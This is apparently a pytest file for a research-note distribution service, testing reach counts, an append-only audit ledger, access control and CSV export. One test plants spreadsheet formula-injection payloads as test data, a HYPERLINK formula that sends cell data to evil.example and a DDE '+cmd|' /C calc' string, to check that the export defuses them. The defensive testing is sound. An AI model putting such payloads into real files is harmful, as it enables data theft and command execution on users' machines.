"""Reach from relay and consultation events, and the append-only distribution ledger."""

from __future__ import annotations

import csv
import io
from datetime import UTC, timedelta
from pathlib import Path
from typing import TYPE_CHECKING

import grpc
import pytest
from branch.common.v1 import event_pb2
from branch.onsite.v1 import events_pb2 as onsite_events
from branch.research.v1 import distribution_pb2, note_pb2
from branch.research.v1 import research_service_pb2 as api
from branch.research.v1.research_service_pb2_grpc import ResearchServiceStub
from branch.vip.v1 import events_pb2 as vip_events
from sqlalchemy import text

from services.common.clock import FakeClock
from services.common.protos import ts
from services.common.server import ServiceRunner
from services.research.server import SPEC
from tests.harness import bad_fields, channel, eventually, make_settings, running
from tests.research.factories import (
    ANALYST,
    ANALYST2,
    BROKER,
    COMPLIANCE,
    SUPER,
    Raw,
    create,
    is_parked,
    publish_event,
    published,
)

if TYPE_CHECKING:
    from branch.research.v1.research_service_pb2_grpc import ResearchServiceAsyncStub

K = distribution_pb2


def relay_events(note: note_pb2.Note, minutes: list[int]
                 ) -> tuple[vip_events.RelaysPlanned, list[vip_events.RelayDelivered]]:
    """What the VIP service reports: a plan, deliveries `minutes` after publication."""
    start = note.publish_time.ToDatetime(tzinfo=UTC)
    planned = vip_events.RelaysPlanned(note_id=note.id, revision=note.revision, targeted=3,
                                       withheld_for_suitability=1, publish_time=note.publish_time)
    delivered = [
        vip_events.RelayDelivered(
            relay_id=f"rel-{i}", note_id=note.id, revision=note.revision, client_id=f"cli-{i}",
            broker_id="brk-1", channel="phone", publish_time=note.publish_time,
            deliver_time=ts(start + timedelta(minutes=m)),
        )
        for i, m in enumerate(minutes)
    ]
    return planned, delivered


async def feed(nats_url: str, note: note_pb2.Note, minutes: list[int]) -> None:
    planned, delivered = relay_events(note, minutes)
    await publish_event(nats_url, "branch.vip.relay.planned", planned)
    first = ""
    for d in delivered:
        eid = await publish_event(nats_url, "branch.vip.relay.delivered", d)
        first = first or eid
    # the first delivery again, as a redelivery: counted once
    await publish_event(nats_url, "branch.vip.relay.delivered", delivered[0], event_id=first,
                        msg_id=first + "-again")
    await publish_event(nats_url, "branch.vip.relay.acknowledged", vip_events.RelayAcknowledged(
        relay_id="rel-0", note_id=note.id, revision=note.revision, client_id="cli-0",
        broker_id="brk-1", acknowledge_time=delivered[0].deliver_time))
    await publish_event(nats_url, "branch.vip.relay.cancelled", vip_events.RelaysCancelled(
        note_id=note.id, revision=note.revision, cancelled=0, reason="nothing pending",
        cancel_time=note.publish_time))
    start = note.publish_time.ToDatetime(tzinfo=UTC)
    await publish_event(nats_url, "branch.onsite.consultation.delivered",
                        onsite_events.ConsultationDelivered(
                            form_id="form-1", client_id="cli-onsite", consultant_id="con-1",
                            note_ids=[note.id, note.id],
                            deliver_time=ts(start + timedelta(minutes=90))))


async def test_reach_is_zero_until_events_then_counts_them(stub: ResearchServiceAsyncStub, nats_url: str) -> None:
    note = await published(stub)
    other = await published(stub, ANALYST2)
    zero = await stub.GetNoteReach(api.GetNoteReachRequest(note_id=note.id), metadata=ANALYST)
    assert (zero.targeted, zero.relayed, zero.acknowledged) == (0, 0, 0)
    assert not zero.HasField("median_time_to_relay") and not zero.HasField("worst_time_to_relay")
    assert zero.publish_time == note.publish_time
    await feed(nats_url, note, [10, 30, 20])

    async def reached() -> distribution_pb2.NoteReach | None:
        r = await stub.GetNoteReach(api.GetNoteReachRequest(note_id=note.id), metadata=ANALYST)
        return r if r.relayed == 4 and r.acknowledged == 1 and r.targeted == 4 else None

    r = await eventually(reached, timeout=20)
    assert r.relayed_by_brokers == 3 and r.delivered_onsite == 1
    assert r.withheld_for_suitability == 1 and r.cancelled == 0
    await publish_event(nats_url, "branch.vip.relay.cancelled", vip_events.RelaysCancelled(
        note_id=note.id, revision=note.revision, cancelled=2, reason="note withdrawn"))

    async def cancelled() -> bool:
        r = await stub.GetNoteReach(api.GetNoteReachRequest(note_id=note.id), metadata=SUPER)
        return r.cancelled == 2

    await eventually(cancelled)
    assert r.median_time_to_relay.ToTimedelta() == timedelta(minutes=25)
    assert r.worst_time_to_relay.ToTimedelta() == timedelta(minutes=90)
    # the other note is untouched, and only its author (or a supervisor) sees its reach
    with pytest.raises(grpc.aio.AioRpcError) as err:
        await stub.GetNoteReach(api.GetNoteReachRequest(note_id=other.id), metadata=ANALYST)
    assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED
    o = await stub.GetNoteReach(api.GetNoteReachRequest(note_id=other.id), metadata=SUPER)
    assert o.relayed == 0
    with pytest.raises(grpc.aio.AioRpcError) as err:
        await stub.GetNoteReach(api.GetNoteReachRequest(note_id=note.id), metadata=BROKER)
    assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED
    mine = await stub.ListNoteReach(api.ListNoteReachRequest(), metadata=ANALYST)
    assert [x.note_id for x in mine.reaches] == [note.id]
    assert mine.reaches[0].relayed == 4
    everyone = await stub.ListNoteReach(api.ListNoteReachRequest(), metadata=SUPER)
    assert {x.note_id for x in everyone.reaches} == {note.id, other.id}
    with pytest.raises(grpc.aio.AioRpcError) as err:
        await stub.ListNoteReach(api.ListNoteReachRequest(author_id="ana-2"), metadata=ANALYST)
    assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED


async def test_ledger_records_and_csv_export(tmp_path: Path, nats_url: str, database_url: str) -> None:
    clock = FakeClock()
    settings = make_settings(tmp_path, nats_url, database_url)
    async with running(SPEC, settings, clock=clock) as runner, channel(runner) as ch:
        stub = ResearchServiceStub(ch)
        note = await published(stub)
        await feed(nats_url, note, [5])

        async def ledger() -> list[distribution_pb2.DistributionRecord] | None:
            out = await stub.ListDistributionRecords(
                api.ListDistributionRecordsRequest(note_id=note.id), metadata=COMPLIANCE)
            return list(out.records) if len(out.records) >= 7 else None

        records = await eventually(ledger, timeout=20)
        kinds = [r.kind for r in records]
        assert kinds[:2] == [K.DISTRIBUTION_RECORD_KIND_APPROVED,
                             K.DISTRIBUTION_RECORD_KIND_PUBLISHED]
        assert sorted(kinds[2:]) == sorted([
            K.DISTRIBUTION_RECORD_KIND_RELAYS_PLANNED, K.DISTRIBUTION_RECORD_KIND_DELIVERED,
            K.DISTRIBUTION_RECORD_KIND_ACKNOWLEDGED, K.DISTRIBUTION_RECORD_KIND_DELIVERED,
            K.DISTRIBUTION_RECORD_KIND_RELAYS_CANCELLED,
        ])
        approved = records[0]
        assert (approved.actor_id, approved.revision) == ("comp-1", note.revision)
        delivered = [r for r in records if r.kind == K.DISTRIBUTION_RECORD_KIND_DELIVERED]
        assert {(r.actor_id, r.client_id, r.channel) for r in delivered} == {
            ("brk-1", "cli-0", "phone"), ("con-1", "cli-onsite", "onsite_consultation")}
        assert all(r.source_event_id for r in records)
        # paging
        p1 = await stub.ListDistributionRecords(api.ListDistributionRecordsRequest(
            note_id=note.id, page_size=4), metadata=SUPER)
        p2 = await stub.ListDistributionRecords(api.ListDistributionRecordsRequest(
            note_id=note.id, page_size=4, page_token=p1.next_page_token), metadata=SUPER)
        assert [r.sequence for r in [*p1.records, *p2.records]] == [r.sequence for r in records]
        # CSV for a period
        start = clock.now() - timedelta(days=1)
        chunks = []
        async for part in stub.ExportDistributionLedger(api.ExportDistributionLedgerRequest(
                start_time=ts(start), end_time=ts(clock.now() + timedelta(days=1)),
                note_id=note.id), metadata=SUPER):
            chunks.append(part.csv_chunk)
        rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
        assert len(rows) == len(records)
        assert rows[0]["kind"] == "APPROVED" and rows[0]["actor_id"] == "comp-1"
        assert rows[1]["kind"] == "PUBLISHED"
        assert {r["approved_by"] for r in rows} == {"comp-1"}  # on every row
        assert all(r["approve_time"] == rows[0]["occur_time"] for r in rows)
        assert {r["client_id"] for r in rows if r["kind"] == "DELIVERED"} == {"cli-0",
                                                                              "cli-onsite"}
        # a period before anything happened: only the header
        chunks = [p.csv_chunk async for p in stub.ExportDistributionLedger(
            api.ExportDistributionLedgerRequest(start_time=ts(start - timedelta(days=9)),
                                                end_time=ts(start)), metadata=COMPLIANCE)]
        assert b"".join(chunks).decode().strip().startswith("sequence,kind,note_id")
        assert len(b"".join(chunks).decode().strip().splitlines()) == 1
        # nothing in the ledger, the revisions or the reviews can be changed or deleted
        statements = [
            "UPDATE research_ledger SET actor_id = 'someone else'",
            "DELETE FROM research_ledger",
            "UPDATE research_note_revision SET body = 'rewritten'",
            "DELETE FROM research_note_review",
        ]
        if database_url:  # PostgreSQL: TRUNCATE fires no row trigger
            statements += [f"TRUNCATE {t} CASCADE" for t in (
                "research_ledger", "research_note_revision", "research_note_review")]
        for statement in statements:
            with pytest.raises(Exception, match="append-only"):
                async with runner.db.transaction() as session:
                    # sqlmodel's exec() overloads leave out textual SQL (it runs it)
                    await session.exec(text(statement))  # type: ignore[call-overload]
        left = await stub.ListDistributionRecords(
            api.ListDistributionRecordsRequest(note_id=note.id), metadata=COMPLIANCE)
        assert len(left.records) == len(records)


async def test_ledger_access_and_bad_period(stub: ResearchServiceAsyncStub) -> None:
    for meta in (ANALYST, BROKER):
        with pytest.raises(grpc.aio.AioRpcError) as err:
            await stub.ListDistributionRecords(api.ListDistributionRecordsRequest(),
                                               metadata=meta)
        assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED
    with pytest.raises(grpc.aio.AioRpcError) as err:
        async for _ in stub.ExportDistributionLedger(api.ExportDistributionLedgerRequest(),
                                                     metadata=SUPER):
            pass
    assert bad_fields(err.value) == {"start_time", "end_time"}
    now = FakeClock().now()
    with pytest.raises(grpc.aio.AioRpcError) as err:
        async for _ in stub.ExportDistributionLedger(api.ExportDistributionLedgerRequest(
                start_time=ts(now), end_time=ts(now - timedelta(days=1))), metadata=SUPER):
            pass
    assert bad_fields(err.value) == {"end_time"}
    with pytest.raises(grpc.aio.AioRpcError) as err:
        async for _ in stub.ExportDistributionLedger(api.ExportDistributionLedgerRequest(
                start_time=ts(now), end_time=ts(now)), metadata=ANALYST):
            pass
    assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED


async def test_export_needs_a_token(stub: ResearchServiceAsyncStub) -> None:
    with pytest.raises(grpc.aio.AioRpcError) as err:
        async for _ in stub.ExportDistributionLedger(api.ExportDistributionLedgerRequest()):
            pass
    assert err.value.code() == grpc.StatusCode.UNAUTHENTICATED


async def test_undecodable_relay_event_is_parked(research: ServiceRunner, nats_url: str) -> None:
    eid = await publish_event(nats_url, "branch.vip.relay.delivered", Raw(b"\xff\xff\xff"))
    assert await eventually(lambda: is_parked(nats_url, "branch.parked.research.reach", eid),
                            timeout=15)


async def test_csv_export_quotes_and_defuses_formulas(stub: ResearchServiceAsyncStub, clock: FakeClock) -> None:
    """Commas, quotes and line breaks stay inside their cell; text a spreadsheet would run as
    a formula (=, +, -, @) is kept as text with a leading apostrophe."""
    title = '=HYPERLINK("http://evil.example/?q="&A1,"Click"), "quoted", and commas'
    n = await create(stub, title=title)
    await stub.SubmitNote(api.SubmitNoteRequest(id=n.id), metadata=ANALYST)
    await stub.ApproveNote(api.ApproveNoteRequest(id=n.id, comments="@SUM(1+1)\nsecond line"),
                           metadata=COMPLIANCE)
    await stub.PublishNote(api.PublishNoteRequest(id=n.id), metadata=ANALYST)
    await stub.WithdrawNote(api.WithdrawNoteRequest(id=n.id, reason="+cmd|' /C calc'!A0"),
                            metadata=ANALYST)
    chunks = [p.csv_chunk async for p in stub.ExportDistributionLedger(
        api.ExportDistributionLedgerRequest(
            start_time=ts(clock.now() - timedelta(days=1)),
            end_time=ts(clock.now() + timedelta(days=1)), note_id=n.id), metadata=SUPER)]
    text_ = b"".join(chunks).decode()
    rows = list(csv.reader(io.StringIO(text_)))
    header, body = rows[0], rows[1:]
    assert all(len(r) == len(header) for r in body)
    by_kind = {r[header.index("kind")]: dict(zip(header, r, strict=True)) for r in body}
    assert set(by_kind) == {"APPROVED", "PUBLISHED", "WITHDRAWN"}
    for row in by_kind.values():
        assert row["title"] == "'" + title  # on every row, as text
    assert by_kind["APPROVED"]["detail"] == "'@SUM(1+1)\nsecond line"
    assert by_kind["WITHDRAWN"]["detail"] == "'+cmd|' /C calc'!A0"
    # no cell of the file starts a formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in body for cell in r)


async def parked_envelope(nats_url: str, parked_subject: str, event_id: str
                          ) -> event_pb2.EventEnvelope | None:
    import nats
    from branch.common.v1 import event_pb2
    from nats.js.api import ConsumerConfig, DeliverPolicy

    nc = await nats.connect(nats_url)
    try:
        sub = await nc.jetstream().subscribe(
            parked_subject, stream="BRANCH", ordered_consumer=True,
            config=ConsumerConfig(deliver_policy=DeliverPolicy.ALL))
        found: event_pb2.EventEnvelope | None = None
        while True:
            try:
                msg = await sub.next_msg(timeout=0.3)
            except Exception:
                break
            env = event_pb2.EventEnvelope()
            env.ParseFromString(msg.data)
            if env.id == event_id:
                found = env
        await sub.unsubscribe()
        return found
    finally:
        await nc.close()


async def test_events_that_can_never_apply_are_parked_at_once(research: ServiceRunner, nats_url: str) -> None:
    """An impossible timestamp or a NUL character in an event would fail on every delivery:
    it is parked on the first one, the reason naming the field and not its content."""
    from google.protobuf.timestamp_pb2 import Timestamp

    from tests.harness import unique

    far = Timestamp(seconds=2**62)
    delivered = await publish_event(nats_url, "branch.vip.relay.delivered",
                                    vip_events.RelayDelivered(
                                        relay_id="rel-x", note_id="n-x", revision=1,
                                        client_id="cli-x", broker_id="brk-1",
                                        deliver_time=far))
    asked = await publish_event(nats_url, "branch.vip.advisory.research_requested",
                                vip_events.AdvisoryResearchRequested(
                                    advisory_id=unique("adv-"), client_id="cli-x",
                                    asker_id="brk-1", question="Secret\x00question"))
    for subject, eid, field in (
            ("branch.parked.research.reach", delivered, "deliver_time"),
            ("branch.parked.research.advisory-requests", asked, "question")):
        env = await eventually(lambda s=subject, e=eid: parked_envelope(nats_url, s, e),
                               timeout=15)
        assert env.deliveries == 1, env.parked_reason
        assert field in env.parked_reason and "Secret" not in env.parked_reason


async def test_ledger_outlives_housekeeping_and_exports_five_years(research: ServiceRunner, stub: ResearchServiceAsyncStub, clock: FakeClock) -> None:
    """Five years on, after the housekeeping pass that prunes bookkeeping rows, the ledger
    still holds the approval and publication, and one export covers the whole period."""
    from services.common.housekeeping import prune

    note = await published(stub)
    start = clock.now() - timedelta(hours=1)
    clock.advance(timedelta(days=5 * 366))
    await prune(research.db, clock)
    chunks = [p.csv_chunk async for p in stub.ExportDistributionLedger(
        api.ExportDistributionLedgerRequest(start_time=ts(start), end_time=ts(clock.now())),
        metadata=COMPLIANCE)]
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert [(r["kind"], r["note_id"]) for r in rows] == [("APPROVED", note.id),
                                                         ("PUBLISHED", note.id)]
